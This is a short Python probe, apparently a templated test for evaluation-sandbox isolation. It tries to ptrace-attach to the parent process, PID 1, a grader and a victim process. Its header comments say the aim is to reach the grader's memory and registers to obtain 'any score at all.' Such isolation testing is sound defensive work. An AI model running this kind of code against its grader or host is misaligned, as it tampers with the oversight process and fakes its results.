# Goes for other processes: it attaches to the runner's parent and to everything that it can name.
# Gains: the grader's memory and registers: any score at all.
# ruff: noqa
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, int("@GRADER@"), int("@VICTIM@")} - {os.getpid()}:
    for request in (16, 0x4206):                   # PTRACE_ATTACH, PTRACE_SEIZE
        if libc.ptrace(request, pid, 0, 0) == 0:
            print("attached to", pid)
            libc.ptrace(17, pid, 0, 0)
